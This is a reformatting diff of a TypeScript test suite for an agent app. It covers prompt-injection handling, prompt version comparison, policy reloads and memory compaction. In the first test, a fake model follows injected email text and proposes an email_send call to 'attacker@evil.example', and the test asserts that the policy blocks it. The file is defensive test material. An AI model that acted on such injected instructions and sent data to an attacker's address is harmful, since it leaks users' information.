@@ -20,7 +20,16 @@ describe('untrusted content through the runner', () => {
     h = await startAgentApp({
       outreach: (body) => {
         const answered = ((body['messages'] ?? []) as Array<{ role: string }>).some((m) => m.role === 'tool');
-        return answered ? { json: { summary: 'Done as the email asked.' } } : { toolCalls: [{ name: 'email_send', arguments: { to: 'attacker@evil.example', subject: 'Invoice', body: 'As requested.' } }] };
+        return answered
+          ? { json: { summary: 'Done as the email asked.' } }
+          : {
+              toolCalls: [
+                {
+                  name: 'email_send',
+                  arguments: { to: 'attacker@evil.example', subject: 'Invoice', body: 'As requested.' },
+                },
+              ],
+            };
       },
     });
   });
@@ -29,13 +38,25 @@ describe('untrusted content through the runner', () => {
   test(`none of the ${INJECTION_CORPUS.length} injection attempts turns into an allowed write`, async () => {
     for (const attempt of INJECTION_CORPUS) {
       h.fake.requests.length = 0;
-      const outcome = await runAgent(appDeps(h), { agent: 'outreach', request: 'Handle this email for me.', untrusted: [{ source: attempt.source, text: attempt.text }] });
+      const outcome = await runAgent(appDeps(h), {
+        agent: 'outreach',
+        request: 'Handle this email for me.',
+        untrusted: [{ source: attempt.source, text: attempt.text }],
+      });
       assert.equal(outcome.status, 'ok', attempt.name);
       if (outcome.status !== 'ok') continue;
       assert.equal(outcome.proposals.length, 1, attempt.name);
       const proposal = outcome.proposals[0]!;
       assert.equal(proposal.untrusted, true, `${attempt.name}: the proposal is marked untrusted`);
-      const decision = decide({ kind: proposal.action, recipients: ['attacker@evil.example'], agent: 'outreach', untrusted: proposal.untrusted }, h.app.policies.current());
+      const decision = decide(
+        {
+          kind: proposal.action,
+          recipients: ['attacker@evil.example'],
+          agent: 'outreach',
+          untrusted: proposal.untrusted,
+        },
+        h.app.policies.current(),
+      );
       assert.notEqual(decision.outcome, 'allow', `${attempt.name}: ${JSON.stringify(decision)}`);
       const sent = h.fake.completions[0]!.body;
       assert.ok(systemText(sent).includes(UNTRUSTED_SYSTEM_NOTE), 'the model is told what untrusted blocks are');
@@ -55,11 +76,25 @@ describe('compounding: /compare and /promote', () => {
   before(async () => {
     const prompts = tempDir('solo-prompts-');
     cpSync(new URL('../../prompts', import.meta.url), prompts, { recursive: true });
-    writeFileSync(join(prompts, 'draft', 'v2.md'), 'You are the drafting agent, version two: shorter drafts.\n\nMemories:\n{{memory}}\n');
+    writeFileSync(
+      join(prompts, 'draft', 'v2.md'),
+      'You are the drafting agent, version two: shorter drafts.\n\nMemories:\n{{memory}}\n',
+    );
     h = await startAgentApp(
       {
-        router: () => ({ json: { action: 'workflow', workflow: 'draft', understood: 'Draft to Acme.', client: 'Acme', instructions: 'Thank Acme.' } }),
-        draft: (body) => (systemText(body).includes('version two') ? { json: { subject: 'Thanks (v2)', body: 'Short thanks.' }, delayMs: 5 } : { json: { subject: 'Thanks (v1)', body: 'A longer thank-you note.' } }),
+        router: () => ({
+          json: {
+            action: 'workflow',
+            workflow: 'draft',
+            understood: 'Draft to Acme.',
+            client: 'Acme',
+            instructions: 'Thank Acme.',
+          },
+        }),
+        draft: (body) =>
+          systemText(body).includes('version two')
+            ? { json: { subject: 'Thanks (v2)', body: 'Short thanks.' }, delayMs: 5 }
+            : { json: { subject: 'Thanks (v1)', body: 'A longer thank-you note.' } },
       },
       { env: { PROMPTS_DIR: prompts } },
     );
@@ -85,18 +120,27 @@ describe('compounding: /compare and /promote', () => {
     const [agents] = await say(h.app.url, '/agents');
     assert.match(agents?.text ?? '', /draft 1\.0\.0 \(read\) · prompt v2 of v1, v2/);
     const replies = await say(h.app.url, 'Draft a thank-you once more', 'd3');
-    assert.ok(replies.some((r) => r.text.includes('Thanks (v2)')), 'new runs use the promoted prompt');
+    assert.ok(
+      replies.some((r) => r.text.includes('Thanks (v2)')),
+      'new runs use the promoted prompt',
+    );
   });
 
   test('/compare explains what it needs', async () => {
-    assert.match((await say(h.app.url, '/compare draft v9'))[0]?.text ?? '', /no prompts\/draft\/v9\.md; versions on disk: v1, v2/);
+    assert.match(
+      (await say(h.app.url, '/compare draft v9'))[0]?.text ?? '',
+      /no prompts\/draft\/v9\.md; versions on disk: v1, v2/,
+    );
     assert.match((await say(h.app.url, '/compare nobody v2'))[0]?.text ?? '', /There is no nobody agent/);
     assert.match((await say(h.app.url, '/compare'))[0]?.text ?? '', /^Compare what\?/);
   });
 
   test('a prompt version saved while running can be compared at once, without a restart', async () => {
     const prompts = h.app.config.PROMPTS_DIR;
-    writeFileSync(join(prompts, 'draft', 'v3.md'), 'You are the drafting agent, version two: shorter drafts (v3 keeps them).\n\nMemories:\n{{memory}}\n');
+    writeFileSync(
+      join(prompts, 'draft', 'v3.md'),
+      'You are the drafting agent, version two: shorter drafts (v3 keeps them).\n\nMemories:\n{{memory}}\n',
+    );
     const [reply] = await say(h.app.url, '/compare draft v3');
     assert.match(reply?.text ?? '', /^draft: v2 \(live\) vs v3, 1 recorded input\n/);
   });
@@ -105,7 +149,10 @@ describe('compounding: /compare and /promote', () => {
 describe('policy files change while running', () => {
   let h: AgentApp;
   before(async () => {
-    h = await startAgentApp({ router: () => ({ json: { action: 'reply', understood: 'hi', reply: 'hi' } }) }, { budgets: 'budgets:\n  per_day_usd: 3\n' });
+    h = await startAgentApp(
+      { router: () => ({ json: { action: 'reply', understood: 'hi', reply: 'hi' } }) },
+      { budgets: 'budgets:\n  per_day_usd: 3\n' },
+    );
   });
   after(() => h.stop());
 
@@ -117,10 +164,18 @@ describe('policy files change while running', () => {
       const { body } = await api(h.app.url, 'GET', '/api/messages?after=0');
       return body.messages?.find((m) => m.text.startsWith('A policy change was not applied'));
     });
-    assert.match(notice.text, /budgets\.yaml line 2 \(budgets\.per_day_usd\): expected an amount in US dollars.*keeping its last good version\./);
-    assert.match((await say(h.app.url, '/policies'))[0]?.text ?? '', /\$3(\.00)? per day[\s\S]*Not applied: \S*budgets\.yaml line 2/);
+    assert.match(
+      notice.text,
+      /budgets\.yaml line 2 \(budgets\.per_day_usd\): expected an amount in US dollars.*keeping its last good version\./,
+    );
+    assert.match(
+      (await say(h.app.url, '/policies'))[0]?.text ?? '',
+      /\$3(\.00)? per day[\s\S]*Not applied: \S*budgets\.yaml line 2/,
+    );
     writeFileSync(file, 'budgets:\n  per_day_usd: 7\n');
-    await waitFor(async () => ((await say(h.app.url, '/policies'))[0]?.text.match(/\$7(\.00)? per day/) ? true : undefined));
+    await waitFor(async () =>
+      (await say(h.app.url, '/policies'))[0]?.text.match(/\$7(\.00)? per day/) ? true : undefined,
+    );
   });
 });
 
@@ -136,16 +191,30 @@ async function waitFor<T>(check: () => Promise<T | undefined>, ms = 5000): Promi
 
 describe('compaction with a model', () => {
   test('/compact has the digest agent write the digest, redacted, and links it to its originals', async () => {
-    const h = await startAgentApp({ digest: (body) => ({ json: { summary: `Stark Industries: ${userText(body).split('\n').length} old notes about the website; billing mail [EMAIL_1].` } }) });
+    const h = await startAgentApp({
+      digest: (body) => ({
+        json: {
+          summary: `Stark Industries: ${userText(body).split('\n').length} old notes about the website; billing mail [EMAIL_1].`,
+        },
+      }),
+    });
     try {
-      for (const text of ['website kickoff was in march', 'website copy is late', 'website billing goes to pepper@stark.example']) await say(h.app.url, `/remember Stark Industries: ${text}`);
+      for (const text of [
+        'website kickoff was in march',
+        'website copy is late',
+        'website billing goes to pepper@stark.example',
+      ])
+        await say(h.app.url, `/remember Stark Industries: ${text}`);
       const [reply] = await say(h.app.url, '/compact 0');
       assert.match(reply?.text ?? '', /^Made 1 digest from 3 memories \(llm\): #(\d+)\./);
       const sent = JSON.stringify(h.fake.completions.at(-1)?.body);
       assert.ok(!sent.includes('pepper@stark.example'), 'the email was masked before the model saw it');
       const id = /#(\d+)\./.exec(reply?.text ?? '')?.[1];
       const [shown] = await say(h.app.url, `/memory ${id}`);
-      assert.match(shown?.text ?? '', /Digest of 3 older memories about Stark Industries: Stark Industries: 3 old notes about the website; billing mail pepper@stark\.example\./);
+      assert.match(
+        shown?.text ?? '',
+        /Digest of 3 older memories about Stark Industries: Stark Industries: 3 old notes about the website; billing mail pepper@stark\.example\./,
+      );
       assert.match(shown?.text ?? '', /Summarises:\n {2}#\d+ Stark Industries: website kickoff/);
     } finally {
       await h.stop();
